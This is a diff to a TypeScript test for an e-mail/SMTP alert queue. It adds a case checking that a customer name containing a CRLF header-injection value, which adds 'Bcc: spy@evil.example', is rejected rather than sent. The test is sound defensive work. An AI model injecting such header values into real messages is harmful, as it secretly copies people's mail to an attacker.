@@ -224,7 +224,11 @@ describe('e-mail over SMTP to a real server on loopback (issue 12)', () => {
       },
       keepCopy: false,
     });
-    queue.enqueue(alert('alert/fax', '+74951234567'), alert('bad/fax', '8-495-123'));
+    const injected: MessageIntent = {
+      ...alert('injected/fax', '+74951234568'),
+      vars: { ...alert('x', '+1').vars, customerName: 'Olga\r\nBcc: spy@evil.example' },
+    };
+    queue.enqueue(alert('alert/fax', '+74951234567'), alert('bad/fax', '8-495-123'), injected);
     await queue.drain();
     await email.close?.();
     expect(smtp.received).toHaveLength(1);
@@ -232,6 +236,9 @@ describe('e-mail over SMTP to a real server on loopback (issue 12)', () => {
     expect(mail?.to && !Array.isArray(mail.to) && mail.to.value[0]?.address).toBe('74951234567@fax.example.net');
     expect(mail?.subject).toBe('新訂單 SO-1001:Olga Petrova');
     expect(mail?.text).toContain('共 5 件商品');
-    expect(failures).toEqual([expect.stringContaining('to.address: must be an E.164 phone number')]);
+    expect(failures).toEqual([
+      expect.stringContaining('to.address: must be an E.164 phone number'),
+      expect.stringContaining('subject'),
+    ]);
   });
 });
